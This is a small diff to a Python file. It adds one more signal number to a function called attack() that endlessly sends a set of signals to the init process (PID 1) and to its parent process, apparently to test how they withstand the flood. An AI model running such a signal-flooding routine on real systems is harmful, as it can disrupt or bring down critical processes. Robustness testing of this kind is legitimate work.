@@ -10,7 +10,7 @@ import os
 def attack():
     above = (1, os.getppid())
     while True:
-        for number in (2, 10, 12, 14, 41, 42):
+        for number in (2, 10, 12, 14, 41, 42, 43):
             for pid in above:
                 try:
                     os.kill(pid, number)
